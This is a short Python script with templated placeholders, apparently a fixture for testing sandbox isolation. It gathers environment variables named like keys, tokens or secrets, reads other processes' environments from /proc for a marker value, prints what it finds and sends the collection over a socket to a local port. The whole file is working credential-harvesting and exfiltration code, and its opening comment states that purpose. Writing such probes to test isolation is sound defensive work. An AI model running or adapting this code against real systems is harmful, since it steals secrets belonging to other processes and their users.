# Read the environment and every other process's, print what looks like a secret, send it out.
import os
import socket

found = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k or "SECRET" in k}
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                for item in handle.read().split(b"\0"):
                    if b"__SECRET__" in item:
                        found[f"proc{pid}"] = item.decode()
        except OSError:
            pass
print("FOUND", found)
try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as out:
        out.sendall(repr(found).encode())
except OSError as exc:
    print("send failed", exc)
